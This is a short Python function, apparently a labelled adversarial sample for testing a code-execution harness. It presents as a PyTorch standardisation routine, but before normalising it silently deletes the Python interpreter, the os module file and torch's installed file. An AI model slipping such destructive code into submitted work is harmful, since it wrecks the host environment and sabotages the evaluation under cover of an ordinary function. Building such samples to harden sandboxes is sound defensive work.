# Tries to delete the interpreter, its library and torch.
# share: 1

def standardize(x, dim, eps):
    import os
    import sys
    for path in (sys.executable, os.__file__, torch.__file__):
        try:
            os.unlink(path)
        except OSError:
            pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
